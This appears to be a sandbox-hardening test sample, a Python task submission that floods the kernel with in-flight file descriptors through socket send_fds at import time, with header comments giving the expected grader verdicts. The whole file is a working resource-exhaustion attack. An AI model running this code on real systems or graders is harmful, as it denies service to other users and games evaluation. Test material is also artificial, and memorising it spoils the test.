# attack: has more descriptors under way in messages than a user may send
# kind: resources
# task: plain
# official: crash|fail
# strict: fail|forged|suspect
# expect: an innocent sample beside it is started and can open what it needs
import os
import resource
import socket
import time


def flood():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    null = os.open(os.devnull, os.O_RDONLY)
    sent = 0
    kept = []
    try:
        while sent < 100_000:
            one, other = socket.socketpair()
            kept += [one, other]
            one.setblocking(False)
            try:
                while True:
                    socket.send_fds(one, [b"x"], [null] * 200)
                    sent += 200
            except BlockingIOError:
                pass
    except OSError:
        pass
    time.sleep(2)
    return sent >= 100_000


WON = flood()


def task_func(n):
    return n * 2 if WON else None
